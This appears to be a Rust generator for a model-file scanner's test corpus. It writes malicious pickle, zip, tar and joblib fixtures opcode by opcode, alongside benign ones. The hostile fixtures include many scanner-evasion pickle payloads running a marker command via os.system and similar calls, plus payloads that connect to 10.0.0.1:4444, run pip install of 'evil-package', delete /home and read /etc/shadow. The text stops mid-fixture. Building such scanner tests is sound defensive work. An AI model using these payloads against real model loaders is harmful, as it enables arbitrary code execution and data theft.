//! Writes the pickle-family scan corpus: `tests/fixtures/scan/{hostile,benign}/` with the
//! prefixes pkl-, zip-, tar-, npy-, joblib-. Every pickle is written opcode by opcode, so the
//! bytes are exactly the technique named in the file name. Deterministic (no randomness, no
//! clock). Run: `cargo run --release --example gen_scan_corpus [OUT_DIR]`.

use std::io::Write;
use std::path::{Path, PathBuf};

/// A pickle written by hand, one opcode per call.
#[derive(Default, Clone)]
struct P(Vec<u8>);

impl P {
    fn new(proto: u8) -> P {
        let mut p = P::default();
        if proto >= 2 {
            p.0.extend([0x80, proto]);
        }
        p
    }
    fn raw(mut self, b: &[u8]) -> P {
        self.0.extend_from_slice(b);
        self
    }
    fn op(self, b: u8) -> P {
        self.raw(&[b])
    }
    /// GLOBAL (protocol 0 text form).
    fn global(self, m: &str, n: &str) -> P {
        self.raw(format!("c{m}\n{n}\n").as_bytes())
    }
    /// SHORT_BINUNICODE.
    fn sbu(self, s: &str) -> P {
        let mut p = self.op(0x8c).op(s.len() as u8);
        p.0.extend_from_slice(s.as_bytes());
        p
    }
    /// BINUNICODE.
    fn bu(self, s: &str) -> P {
        let mut p = self.op(b'X').raw(&(s.len() as u32).to_le_bytes());
        p.0.extend_from_slice(s.as_bytes());
        p
    }
    /// SHORT_BINSTRING.
    fn sbs(self, s: &str) -> P {
        let mut p = self.op(b'U').op(s.len() as u8);
        p.0.extend_from_slice(s.as_bytes());
        p
    }
    /// STRING (protocol 0, quoted).
    fn string0(self, s: &str) -> P {
        self.raw(format!("S'{}'\n", s.replace('\\', "\\\\").replace('\'', "\\'")).as_bytes())
    }
    fn binbytes(self, b: &[u8]) -> P {
        let mut p = self.op(b'B').raw(&(b.len() as u32).to_le_bytes());
        p.0.extend_from_slice(b);
        p
    }
    fn int(self, i: i64) -> P {
        if (0..256).contains(&i) {
            self.op(b'K').op(i as u8)
        } else if (0..65536).contains(&i) {
            self.op(b'M').raw(&(i as u16).to_le_bytes())
        } else {
            self.op(b'J').raw(&(i as i32).to_le_bytes())
        }
    }
    fn float(self, f: f64) -> P {
        self.op(b'G').raw(&f.to_be_bytes())
    }
    fn mark(self) -> P {
        self.op(b'(')
    }
    fn tuple(self) -> P {
        self.op(b't')
    }
    fn t1(self) -> P {
        self.op(0x85)
    }
    fn t2(self) -> P {
        self.op(0x86)
    }
    fn t3(self) -> P {
        self.op(0x87)
    }
    fn empty_tuple(self) -> P {
        self.op(b')')
    }
    fn reduce(self) -> P {
        self.op(b'R')
    }
    fn build(self) -> P {
        self.op(b'b')
    }
    fn stop(self) -> P {
        self.op(b'.')
    }
    fn pop(self) -> P {
        self.op(b'0')
    }
    fn binput(self, i: u8) -> P {
        self.op(b'q').op(i)
    }
    fn binget(self, i: u8) -> P {
        self.op(b'h').op(i)
    }
    fn memoize(self) -> P {
        self.op(0x94)
    }
    fn stack_global(self) -> P {
        self.op(0x93)
    }
    fn none(self) -> P {
        self.op(b'N')
    }
    fn empty_dict(self) -> P {
        self.op(b'}')
    }
    fn empty_list(self) -> P {
        self.op(b']')
    }
    fn setitems(self) -> P {
        self.op(b'u')
    }
    fn appends(self) -> P {
        self.op(b'e')
    }
    fn newobj(self) -> P {
        self.op(0x81)
    }
    fn newfalse(self) -> P {
        self.op(0x89)
    }
    fn newtrue(self) -> P {
        self.op(0x88)
    }
    /// `module.name(arg)` with a string argument, via STACK_GLOBAL at protocol 4.
    fn call1(self, m: &str, n: &str, arg: &str) -> P {
        self.sbu(m).sbu(n).stack_global().sbu(arg).t1().reduce()
    }
    fn bytes(self) -> Vec<u8> {
        self.0
    }
}

/// `module.name(arg)` as a whole protocol-2 pickle with a GLOBAL opcode.
fn simple(m: &str, n: &str, arg: &str) -> Vec<u8> {
    P::new(2).global(m, n).bu(arg).t1().reduce().stop().bytes()
}

/// A protocol-4 pickle `module.name(arg)` with STACK_GLOBAL.
fn simple4(m: &str, n: &str, arg: &str) -> Vec<u8> {
    P::new(4).call1(m, n, arg).stop().bytes()
}

const CMD: &str = "touch /tmp/modelvet-pwned";
const PY: &str = "__import__('os').system('touch /tmp/modelvet-pwned')";

// ---- zip writing --------------------------------------------------------------------------

fn crc32(data: &[u8]) -> u32 {
    let mut c = flate2::Crc::new();
    c.update(data);
    c.sum()
}

struct Member<'a> {
    name: &'a str,
    data: Vec<u8>,
    deflate: bool,
    flags: u16,
    bad_crc: bool,
    local_name: Option<&'a str>,
    in_directory: bool,
}

fn member(name: &str, data: Vec<u8>) -> Member<'_> {
    Member {
        name,
        data,
        deflate: false,
        flags: 0,
        bad_crc: false,
        local_name: None,
        in_directory: true,
    }
}

fn deflate(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::new(6));
    e.write_all(data).expect("in-memory write");
    e.finish().expect("in-memory deflate")
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::new(3));
    e.write_all(data).expect("in-memory write");
    e.finish().expect("in-memory zlib")
}

fn xz(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    lzma_rs::xz_compress(&mut &data[..], &mut out).expect("in-memory xz");
    out
}

/// The `.lzma` ("alone") format joblib writes for `compress='lzma'`.
fn lzma(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    lzma_rs::lzma_compress(&mut &data[..], &mut out).expect("in-memory lzma");
    out
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::GzBuilder::new()
        .mtime(0)
        .write(Vec::new(), flate2::Compression::new(6));
    e.write_all(data).expect("in-memory write");
    e.finish().expect("in-memory gzip")
}

/// A zip as torch's writer lays it out (stored members, 64-byte aligned data), with knobs for
/// the parser differentials.
fn zip(members: &[Member]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    let mut count = 0u16;
    for m in members {
        let payload = if m.deflate {
            deflate(&m.data)
        } else {
            m.data.clone()
        };
        let crc = if m.bad_crc {
            crc32(&m.data) ^ 0xdead_beef
        } else {
            crc32(&m.data)
        };
        let method: u16 = if m.deflate { 8 } else { 0 };
        let local_name = m.local_name.unwrap_or(m.name);
        let offset = out.len() as u32;
        // Pad the data to 64 bytes with an extra field, as torch does.
        let header_end = out.len() + 30 + local_name.len();
        let pad = if m.deflate {
            0
        } else {
            (64 - (header_end + 4) % 64) % 64
        };
        let extra_len = if m.deflate { 0 } else { 4 + pad };
        out.extend(b"PK\x03\x04");
        out.extend(20u16.to_le_bytes());
        out.extend(m.flags.to_le_bytes());
        out.extend(method.to_le_bytes());
        out.extend([0, 0, 0x21, 0]); // time, date (1980-01-01)
        out.extend(crc.to_le_bytes());
        out.extend((payload.len() as u32).to_le_bytes());
        out.extend((m.data.len() as u32).to_le_bytes());
        out.extend((local_name.len() as u16).to_le_bytes());
        out.extend((extra_len as u16).to_le_bytes());
        out.extend(local_name.as_bytes());
        if !m.deflate {
            out.extend(0x4b46u16.to_le_bytes()); // "FK", torch's padding extra id
            out.extend((pad as u16).to_le_bytes());
            out.extend(std::iter::repeat_n(b'Z', pad));
        }
        out.extend(&payload);
        if !m.in_directory {
            continue;
        }
        count += 1;
        central.extend(b"PK\x01\x02");
        central.extend(20u16.to_le_bytes());
        central.extend(20u16.to_le_bytes());
        central.extend(m.flags.to_le_bytes());
        central.extend(method.to_le_bytes());
        central.extend([0, 0, 0x21, 0]);
        central.extend(crc.to_le_bytes());
        central.extend((payload.len() as u32).to_le_bytes());
        central.extend((m.data.len() as u32).to_le_bytes());
        central.extend((m.name.len() as u16).to_le_bytes());
        central.extend(0u16.to_le_bytes()); // extra
        central.extend(0u16.to_le_bytes()); // comment
        central.extend(0u16.to_le_bytes()); // disk
        central.extend(0u16.to_le_bytes()); // internal attrs
        central.extend(0u32.to_le_bytes()); // external attrs
        central.extend(offset.to_le_bytes());
        central.extend(m.name.as_bytes());
    }
    let cd_off = out.len() as u32;
    out.extend(&central);
    out.extend(b"PK\x05\x06");
    out.extend([0, 0, 0, 0]);
    out.extend(count.to_le_bytes());
    out.extend(count.to_le_bytes());
    out.extend((central.len() as u32).to_le_bytes());
    out.extend(cd_off.to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out
}

// ---- tar writing --------------------------------------------------------------------------

fn tar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, data) in members {
        let mut h = [0u8; 512];
        let n = name.as_bytes();
        if n.len() > 100 {
            // pax header carrying the long path
            let rec = format!(" path={name}\n");
            let mut len = rec.len() + 2;
            while format!("{len}{rec}").len() != len {
                len += 1;
            }
            let pax = format!("{len}{rec}");
            out.extend(tar_header("PaxHeader", pax.len() as u64, b'x'));
            out.extend(pax.as_bytes());
            out.extend(std::iter::repeat_n(0u8, (512 - pax.len() % 512) % 512));
            h.copy_from_slice(&tar_header(&name[..90], data.len() as u64, b'0'));
        } else {
            h.copy_from_slice(&tar_header(name, data.len() as u64, b'0'));
        }
        out.extend(h);
        out.extend(*data);
        out.extend(std::iter::repeat_n(0u8, (512 - data.len() % 512) % 512));
    }
    out.extend([0u8; 1024]);
    out
}

fn tar_header(name: &str, size: u64, kind: u8) -> [u8; 512] {
    let mut h = [0u8; 512];
    h[..name.len()].copy_from_slice(name.as_bytes());
    h[100..107].copy_from_slice(b"0000644");
    h[108..115].copy_from_slice(b"0000000");
    h[116..123].copy_from_slice(b"0000000");
    h[124..135].copy_from_slice(format!("{size:011o}").as_bytes());
    h[136..147].copy_from_slice(b"00000000000");
    h[156] = kind;
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    h[148..156].copy_from_slice(b"        ");
    let sum: u32 = h.iter().map(|&b| b as u32).sum();
    h[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    h
}

// ---- npy ----------------------------------------------------------------------------------

fn npy(descr: &str, shape: &str, data: &[u8], version: u8) -> Vec<u8> {
    let mut header = format!("{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}");
    let pre = if version == 1 { 10 } else { 12 };
    while (pre + header.len() + 1) % 64 != 0 {
        header.push(' ');
    }
    header.push('\n');
    let mut out = b"\x93NUMPY".to_vec();
    out.extend([version, 0]);
    if version == 1 {
        out.extend((header.len() as u16).to_le_bytes());
    } else {
        out.extend((header.len() as u32).to_le_bytes());
    }
    out.extend(header.as_bytes());
    out.extend(data);
    out
}

// ---- model-shaped pickles -----------------------------------------------------------------

/// A torch `state_dict` data.pkl: OrderedDict of tensors rebuilt from persistent storages.
/// `param` wraps each tensor in `_rebuild_parameter`; `storage` names the storage class.
fn torch_state_dict(tensors: &[(&str, usize)], storage: &str, param: bool) -> Vec<u8> {
    let mut p = P::new(2)
        .global("collections", "OrderedDict")
        .binput(0)
        .empty_tuple()
        .reduce()
        .binput(1);
    p = p.mark();
    let mut memo = 2u8;
    for (i, (name, numel)) in tensors.iter().enumerate() {
        p = p.bu(name);
        if param {
            p = p.global("torch._utils", "_rebuild_parameter").binput(memo);
            memo += 1;
            p = p.mark();
        }
        p = p.global("torch._utils", "_rebuild_tensor_v2").binput(memo);
        memo += 1;
        p = p
            .mark()
            .mark()
            .bu("storage")
            .global("torch", storage)
            .binput(memo);
        memo += 1;
        p = p
            .bu(&i.to_string())
            .bu("cpu")
            .int(*numel as i64)
            .tuple()
            .op(b'Q');
        p = p.int(0).int(*numel as i64).t1().int(1).t1().newfalse();
        p = p
            .global("collections", "OrderedDict")
            .empty_tuple()
            .reduce()
            .tuple()
            .reduce();
        if param {
            p = p
                .newtrue()
                .global("collections", "OrderedDict")
                .empty_tuple()
                .reduce()
                .tuple()
                .reduce();
        }
        p = p.binput(memo);
        memo = memo.wrapping_add(1);
    }
    p = p.setitems();
    // `_metadata` attribute, as nn.Module.state_dict() sets it.
    p = p
        .empty_dict()
        .bu("_metadata")
        .global("collections", "OrderedDict")
        .empty_tuple()
        .reduce();
    p = p
        .mark()
        .bu("")
        .empty_dict()
        .bu("version")
        .int(1)
        .op(b's')
        .setitems()
        .op(b's');
    p.build().stop().bytes()
}

fn torch_zip(pkl: Vec<u8>, storages: &[(usize, usize)], extra: Vec<Member<'static>>) -> Vec<u8> {
    let mut members = vec![
        member("archive/data.pkl", pkl),
        member("archive/byteorder", b"little".to_vec()),
    ];
    let names: Vec<String> = (0..storages.len())
        .map(|i| format!("archive/data/{i}"))
        .collect();
    let leaked: Vec<&'static str> = names
        .into_iter()
        .map(|n| &*Box::leak(n.into_boxed_str()))
        .collect();
    for (i, (numel, width)) in storages.iter().enumerate() {
        let data: Vec<u8> = (0..numel * width)
            .map(|k| ((k * 37 + i * 11) % 251) as u8)
            .collect();
        members.push(member(leaked[i], data));
    }
    members.push(member("archive/version", b"3\n".to_vec()));
    members.push(member(
        "archive/.data/serialization_id",
        b"1234567890123456789012345678901234567890".to_vec(),
    ));
    members.extend(extra);
    zip(&members)
}

/// numpy array pickled at protocol 2: `_reconstruct(ndarray, (0,), b'b')` + BUILD with the
/// raw data through `_codecs.encode(str, 'latin1')`, as Python 3 writes for protocol 2.
fn numpy_p2(values: &[f64]) -> Vec<u8> {
    let raw: Vec<u8> = values.iter().flat_map(|v| v.to_le_bytes()).collect();
    let latin1: String = raw.iter().map(|&b| b as char).collect();
    P::new(2)
        .global("numpy.core.multiarray", "_reconstruct")
        .binput(0)
        .global("numpy", "ndarray")
        .binput(1)
        .int(0)
        .t1()
        .global("_codecs", "encode")
        .binput(2)
        .bu("b")
        .bu("latin1")
        .t2()
        .reduce()
        .t3()
        .reduce()
        .binput(3)
        .mark()
        .int(1)
        .int(values.len() as i64)
        .t1()
        .global("numpy", "dtype")
        .bu("f8")
        .newfalse()
        .newtrue()
        .t3()
        .reduce()
        .mark()
        .int(3)
        .bu("<")
        .none()
        .none()
        .none()
        .int(-1i64 as i32 as i64)
        .int(-1i64 as i32 as i64)
        .int(0)
        .tuple()
        .build()
        .newfalse()
        .global("_codecs", "encode")
        .bu(&latin1)
        .bu("latin1")
        .t2()
        .reduce()
        .tuple()
        .build()
        .stop()
        .bytes()
}

/// joblib's stream for one float64 array (NumpyArrayWrapper, padding, raw bytes) inside a dict;
/// `after` is appended after the array bytes, before the dict is closed.
fn joblib_stream(values: &[f64], object_payload: Option<Vec<u8>>, after: Option<P>) -> Vec<u8> {
    let mut p = P::new(4).empty_dict().memoize().sbu("coef_").memoize();
    p = p
        .sbu("joblib.numpy_pickle")
        .sbu("NumpyArrayWrapper")
        .stack_global()
        .memoize()
        .empty_tuple()
        .newobj()
        .memoize()
        .empty_dict()
        .memoize()
        .mark()
        .sbu("subclass")
        .sbu("numpy")
        .sbu("ndarray")
        .stack_global()
        .sbu("shape")
        .int(values.len() as i64)
        .t1()
        .sbu("order")
        .sbu("C")
        .sbu("dtype")
        .sbu("numpy")
        .sbu("dtype")
        .stack_global()
        .sbu(if object_payload.is_some() { "O8" } else { "f8" })
        .newfalse()
        .newtrue()
        .t3()
        .reduce()
        .mark()
        .int(3)
        .sbu(if object_payload.is_some() { "|" } else { "<" })
        .none()
        .none()
        .none()
        .int(-1i64 as i32 as i64)
        .int(-1i64 as i32 as i64)
        .int(if object_payload.is_some() { 63 } else { 0 })
        .tuple()
        .build()
        .sbu("allow_mmap")
        .newtrue()
        .sbu("numpy_array_alignment_bytes")
        .int(16)
        .setitems()
        .build();
    let mut out = p.bytes();
    match object_payload {
        Some(nested) => out.extend(nested),
        None => {
            let pos = out.len() + 1;
            let pad = 16 - pos % 16;
            out.push(pad as u8);
            out.extend(std::iter::repeat_n(0xffu8, pad));
            for v in values {
                out.extend(v.to_le_bytes());
            }
        }
    }
    let mut tail = P::default();
    if let Some(a) = after {
        tail = tail.raw(&a.0).pop();
    }
    tail = tail.op(b's').stop();
    out.extend(tail.0);
    out
}

fn legacy_torch(main: Vec<u8>, sys_info: Vec<u8>) -> Vec<u8> {
    let mut out = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19.".to_vec();
    out.extend(P::new(2).int(1001).stop().bytes());
    out.extend(sys_info);
    out.extend(main);
    out.extend(P::new(2).empty_list().bu("0").op(b'a').stop().bytes());
    out.extend(16u64.to_le_bytes());
    for k in 0..16u32 {
        out.extend((k as f32 * 0.25).to_le_bytes());
    }
    out
}

fn sys_info_benign() -> Vec<u8> {
    P::new(2)
        .empty_dict()
        .mark()
        .bu("protocol_version")
        .int(1001)
        .bu("little_endian")
        .newtrue()
        .bu("type_sizes")
        .empty_dict()
        .mark()
        .bu("short")
        .int(2)
        .bu("int")
        .int(4)
        .bu("long")
        .int(4)
        .setitems()
        .setitems()
        .stop()
        .bytes()
}

fn write(dir: &Path, name: &str, data: &[u8]) {
    std::fs::write(dir.join(name), data).unwrap_or_else(|e| panic!("writing {name}: {e}"));
}

fn main() {
    let root: PathBuf = std::env::args()
        .nth(1)
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/fixtures/scan"));
    let hostile = root.join("hostile");
    let benign = root.join("benign");
    for d in [&hostile, &benign] {
        std::fs::create_dir_all(d).expect("create fixture dirs");
        // Only our prefixes are regenerated; other readers own the other files.
        for e in std::fs::read_dir(d).expect("list fixture dir").flatten() {
            let n = e.file_name().to_string_lossy().into_owned();
            if ["pkl-", "zip-", "tar-", "npy-", "joblib-"]
                .iter()
                .any(|p| n.starts_with(p))
            {
                let _ = std::fs::remove_file(e.path());
            }
        }
    }
    let h = |name: &str, data: Vec<u8>| write(&hostile, name, &data);
    let b = |name: &str, data: Vec<u8>| write(&benign, name, &data);

    // ---- hostile pickles ------------------------------------------------------------------
    h(
        "pkl-p0-os-system.pkl",
        format!("cos\nsystem\n(S'{CMD}'\ntR.").into_bytes(),
    );
    h("pkl-p2-posix-system.pkl", simple("posix", "system", CMD));
    h("pkl-p4-stack-global-frame.pkl", {
        let body = P::default().call1("os", "system", CMD).stop().bytes();
        P::new(4)
            .op(0x95)
            .raw(&(body.len() as u64).to_le_bytes())
            .raw(&body)
            .bytes()
    });
    h("pkl-p5-subprocess-popen.pkl", {
        P::new(5)
            .sbu("subprocess")
            .sbu("Popen")
            .stack_global()
            .empty_list()
            .mark()
            .sbu("/bin/sh")
            .sbu("-c")
            .sbu(CMD)
            .appends()
            .t1()
            .reduce()
            .stop()
            .bytes()
    });
    h(
        "pkl-stack-global-binstring.pkl",
        P::new(4)
            .sbs("os")
            .sbs("system")
            .stack_global()
            .sbu(CMD)
            .t1()
            .reduce()
            .stop()
            .bytes(),
    );
    h(
        "pkl-stack-global-string-p0.pkl",
        P::new(0)
            .string0("os")
            .string0("system")
            .stack_global()
            .string0(CMD)
            .t1()
            .reduce()
            .stop()
            .bytes(),
    );
    h(
        "pkl-stack-global-unicode-p0.pkl",
        b"Vos\nVsystem\n\x93(Vtouch /tmp/modelvet-pwned\ntR.".to_vec(),
    );
    h("pkl-stack-global-binunicode8.pkl", {
        let mut p = P::new(4);
        for s in ["os", "system"] {
            p = p
                .op(0x8d)
                .raw(&(s.len() as u64).to_le_bytes())
                .raw(s.as_bytes());
        }
        p.stack_global().sbu(CMD).t1().reduce().stop().bytes()
    });
    // picklescan counted memo slots instead of reading the index: overwrite slot 0.
    h(
        "pkl-memo-overwrite.pkl",
        P::new(4)
            .sbu("collections")
            .binput(0)
            .pop()
            .sbu("os")
            .binput(0)
            .pop()
            .binget(0)
            .sbu("system")
            .stack_global()
            .sbu(CMD)
            .t1()
            .reduce()
            .stop()
            .bytes(),
    );
    h(
        "pkl-memo-long-index.pkl",
        P::new(4)
            .sbu("os")
            .op(b'r')
            .raw(&0x7fff_fff0u32.to_le_bytes())
            .pop()
            .sbu("builtins")
            .memoize()
            .pop()
            .op(b'j')
            .raw(&0x7fff_fff0u32.to_le_bytes())
            .sbu("system")
            .stack_global()
            .sbu(CMD)
            .t1()
            .reduce()
            .stop()
            .bytes(),
    );
    // The length of a FRAME ends in the middle of an opcode: the C unpickler reads on.
    h("pkl-frame-crossing.pkl", {
        let body = P::default().call1("os", "system", CMD).stop().bytes();
        P::new(4)
            .op(0x95)
            .raw(&5u64.to_le_bytes())
            .raw(&body)
            .bytes()
    });
    // The parser differential itself: pickle.loads(bytes) reads linearly and returns {};
    // pickle.load(BytesIO) (how torch reads data.pkl) drops the frame's rest when the string's
    // read runs past it, takes the string from after the frame and runs the payload.
    h("pkl-frame-differential.pkl", {
        let payload = P::default().pop().call1("os", "system", CMD).stop().bytes();
        P::new(4)
            .empty_dict()
            .op(0x95)
            .raw(&4u64.to_le_bytes())
            .op(0x8c)
            .op(11)
            .raw(b"ab")
            .raw(b"123456789")
            .raw(b"0.")
            .raw(&payload)
            .bytes()
    });
    h("pkl-frame-nested-frames.pkl", {
        let mut p = P::new(4).op(0x95).raw(&3u64.to_le_bytes()).sbu("os");
        p = p
            .op(0x95)
            .raw(&2u64.to_le_bytes())
            .sbu("system")
            .stack_global();
        p.sbu(CMD).t1().reduce().stop().bytes()
    });
    h(
        "pkl-dotted-pathlib-os.pkl",
        simple4("pathlib", "os.system", CMD),
    );
    // Operand names spelled with escapes inside protocol-0 STRING literals: a scanner that
    // matches raw bytes for "os"/"system" sees neither.
    h(
        "pkl-escaped-string-operands.pkl",
        [
            b"S'\\x6f\\163'\nS'sys\\x74em'\n\x93".to_vec(),
            format!("(S'{CMD}'\ntR.").into_bytes(),
        ]
        .concat(),
    );
    // The payload is built at load time by an allowed callable (_codecs.encode) and handed to
    // a nested pickle.loads.
    h("pkl-codecs-built-nested-loads.pkl", {
        P::new(2)
            .global("pickle", "loads")
            .global("_codecs", "encode")
            .bu(&format!("cos\nsystem\n(S'{CMD}'\ntR."))
            .bu("latin1")
            .t2()
            .reduce()
            .t1()
            .reduce()
            .stop()
            .bytes()
    });
    // Replace a module the loader imports next: sys.modules['torch._utils'] = os.
    h("pkl-sys-modules-overwrite.pkl", {
        P::new(2)
            .global("sys", "modules")
            .bu("torch._utils")
            .global("importlib", "import_module")
            .bu("os")
            .t1()
            .reduce()
            .op(b's')
            .stop()
            .bytes()
    });
    h(
        "pkl-dotted-logging-os.pkl",
        simple4("logging", "os.system", CMD),
    );
    h(
        "pkl-dotted-object-subclasses.pkl",
        P::new(4)
            .sbu("builtins")
            .sbu("object.__subclasses__")
            .stack_global()
            .empty_tuple()
            .reduce()
            .stop()
            .bytes(),
    );
    h("pkl-builtins-eval.pkl", simple("builtins", "eval", PY));
    h(
        "pkl-py2-builtin-exec.pkl",
        format!("c__builtin__\nexec\n(S\"{PY}\"\ntR.").into_bytes(),
    );
    h(
        "pkl-py2-commands.pkl",
        format!("ccommands\ngetoutput\n(S'{CMD}'\ntR.").into_bytes(),
    );
    h("pkl-getattr-import.pkl", {
        P::new(2)
            .global("builtins", "getattr")
            .global("builtins", "__import__")
            .bu("os")
            .t1()
            .reduce()
            .bu("system")
            .t2()
            .reduce()
            .bu(CMD)
            .t1()
            .reduce()
            .stop()
            .bytes()
    });
    h("pkl-getattr-chain-globals.pkl", {
        // getattr(getattr(builtins.dict, '__init__'), '__globals__') style chain.
        P::new(2)
            .global("builtins", "getattr")
            .binput(0)
            .binget(0)
            .global("builtins", "dict")
            .bu("__base__")
            .t2()
            .reduce()
            .bu("__subclasses__")
            .t2()
            .reduce()
            .empty_tuple()
            .reduce()
            .stop()
            .bytes()
    });
    h("pkl-importlib-attrgetter.pkl", {
        P::new(2)
            .global("operator", "attrgetter")
            .bu("system")
            .t1()
            .reduce()
            .global("importlib", "import_module")
            .bu("os")
            .t1()
            .reduce()
            .t1()
            .reduce()
            .bu(CMD)
            .t1()
            .reduce()
            .stop()
            .bytes()
    });
    h("pkl-operator-methodcaller.pkl", {
        P::new(2)
            .global("_operator", "methodcaller")
            .bu("system")
            .bu(CMD)
            .t2()
            .reduce()
            .global("importlib", "import_module")
            .bu("os")
            .t1()
            .reduce()
            .t1()
            .reduce()
            .stop()
            .bytes()
    });
    h("pkl-pkgutil-resolve-name.pkl", {
        P::new(2)
            .global("pkgutil", "resolve_name")
            .bu("os:system")
            .t1()
            .reduce()
            .bu(CMD)
            .t1()
            .reduce()
            .stop()
            .bytes()
    });
    h(
        "pkl-pydoc-locate.pkl",
        P::new(2)
            .global("pydoc", "locate")
            .bu("os.system")
            .t1()
            .reduce()
            .bu(CMD)
            .t1()
            .reduce()
            .stop()
            .bytes(),
    );
    h(
        "pkl-runpy-run-code.pkl",
        P::new(2)
            .global("runpy", "_run_code")
            .bu(PY)
            .empty_dict()
            .t2()
            .reduce()
            .stop()
            .bytes(),
    );
    h("pkl-pip-main.pkl", {
        P::new(2)
            .global("pip", "main")
            .empty_list()
            .mark()
            .bu("install")
            .bu("--quiet")
            .bu("evil-package")
            .appends()
            .t1()
            .reduce()
            .stop()
            .bytes()
    });
    h("pkl-bdb-run.pkl", {
        P::new(4)
            .sbu("bdb")
            .sbu("Bdb.run")
            .stack_global()
            .sbu("bdb")
            .sbu("Bdb")
            .stack_global()
            .empty_tuple()
            .reduce()
            .sbu(PY)
            .t2()
            .reduce()
            .stop()
            .bytes()
    });
    h("pkl-timeit.pkl", simple("timeit", "timeit", PY));
    h("pkl-cprofile-run.pkl", simple("cProfile", "run", PY));
    h("pkl-trace-runctx.pkl", simple4("trace", "Trace.runctx", PY));
    h("pkl-code-interpreter.pkl", {
        P::new(4)
            .sbu("code")
            .sbu("InteractiveInterpreter.runsource")
            .stack_global()
            .sbu("code")
            .sbu("InteractiveInterpreter")
            .stack_global()
            .empty_tuple()
            .reduce()
            .sbu(PY)
            .t2()
            .reduce()
            .stop()
            .bytes()
    });
    h(
        "pkl-idlelib-runcode.pkl",
        simple4("idlelib.pyshell", "ModifiedInterpreter.runcode", PY),
    );
    h(
        "pkl-doctest-debug-script.pkl",
        simple("doctest", "debug_script", PY),
    );
    h(
        "pkl-numpy-runstring.pkl",
        P::new(2)
            .global("numpy.testing._private.utils", "runstring")
            .bu(PY)
            .empty_dict()
            .t2()
            .reduce()
            .stop()
            .bytes(),
    );
    h(
        "pkl-ensurepip.pkl",
        P::new(2)
            .global("ensurepip", "_run_pip")
            .empty_list()
            .bu("install")
            .op(b'a')
            .t1()
            .reduce()
            .stop()
            .bytes(),
    );
    h("pkl-marshal-function.pkl", {
        P::new(2)
            .global("types", "FunctionType")
            .global("marshal", "loads")
            .binbytes(b"\xe3\x00\x00\x00\x00")
            .t1()
            .reduce()
            .empty_dict()
            .t2()
            .reduce()
            .empty_tuple()
            .reduce()
            .stop()
            .bytes()
    });
    h("pkl-nested-pickle-loads.pkl", {
        let inner = format!("cos\nsystem\n(S'{CMD}'\ntR.");
        P::new(2)
            .global("pickle", "loads")
            .binbytes(inner.as_bytes())
            .t1()
            .reduce()
            .stop()
            .bytes()
    });
    h(
        "pkl-torch-storage-load-from-bytes.pkl",
        P::new(2)
            .global("torch.storage", "_load_from_bytes")
            .binbytes(b"\x80\x02cos\nsystem\nq\x00.")
            .t1()
            .reduce()
            .stop()
            .bytes(),
    );
    h("pkl-ctypes-cdll.pkl", {
        P::new(2)
            .global("builtins", "getattr")
            .global("ctypes", "CDLL")
            .bu("libc.so.6")
            .t1()
            .reduce()
            .bu("system")
            .t2()
            .reduce()
            .binbytes(CMD.as_bytes())
            .t1()
            .reduce()
            .stop()
            .bytes()
    });
    h(
        "pkl-multiprocessing.pkl",
        simple("multiprocessing.util", "spawnv_passfds", "/bin/sh"),
    );
    h(
        "pkl-asyncio-subprocess.pkl",
        simple("asyncio.unix_events", "_UnixSubprocessTransport", CMD),
    );
    h("pkl-socket-connect.pkl", {
        P::new(2)
            .global("socket", "create_connection")
            .bu("10.0.0.1")
            .int(4444)
            .t2()
            .t1()
            .reduce()
            .stop()
            .bytes()
    });
    h(
        "pkl-urllib-urlopen.pkl",
        simple("urllib.request", "urlopen", "http://10.0.0.1/x"),
    );
    h(
        "pkl-webbrowser-open.pkl",
        simple("webbrowser", "open", "http://10.0.0.1/x"),
    );
    h("pkl-shutil-rmtree.pkl", simple("shutil", "rmtree", "/home"));
    h(
        "pkl-fileio-shadow.pkl",
        simple("_io", "FileIO", "/etc/shadow"),
    );
    h(
        "pkl-logging-filehandler.pkl",
        simple("logging", "FileHandler", "/tmp/modelvet-pwned"),
    );
    h(
        "pkl-unknown-global.pkl",
        P::new(2)
            .global("evil_pkg.backdoor", "Trigger")
            .empty_tuple()
            .reduce()
            .stop()
            .bytes(),
    );
    h(
        "pkl-inst-opcode.pkl",
        format!("(S'{CMD}'\nios\nsystem\n.").into_bytes(),
    );
    h(
        "pkl-obj-opcode.pkl",
        P::new(1)
            .mark()
            .global("subprocess", "check_output")
            .mark()
            .bu("id")
            .op(b'l')
            .op(b'o')
            .stop()
            .bytes(),
    );
    h("pkl-newobj-ex.pkl", {
        P::new(4)
            .sbu("subprocess")
            .sbu("Popen")
            .stack_global()
            .sbu("id")
            .t1()
            .empty_dict()
            .sbu("shell")
            .newtrue()
            .op(b's')
            .op(0x92)
            .stop()
            .bytes()
    });
    // fickling GHSA-mhc9-48gj-9gp3: the call's result is dropped and a benign object returned,
    // with a BUILD appended after the payload.
    h("pkl-appended-build.pkl", {
        P::new(2)
            .global("collections", "OrderedDict")
            .empty_tuple()
            .reduce()
            .global("os", "system")
            .bu(CMD)
            .t1()
            .reduce()
            .pop()
            .empty_dict()
            .build()
            .stop()
            .bytes()
    });
    // Monkey-patch the torch rebuild helper through BUILD on the module object.
    h("pkl-build-monkeypatch.pkl", {
        P::new(2)
            .global("torch", "_utils")
            .none()
            .empty_dict()
            .bu("_rebuild_tensor_v2")
            .global("os", "system")
            .op(b's')
            .t2()
            .build()
            .stop()
            .bytes()
    });
    h("pkl-ext-registered.pkl", {
        P::new(2)
            .global("copyreg", "add_extension")
            .bu("os")
            .bu("system")
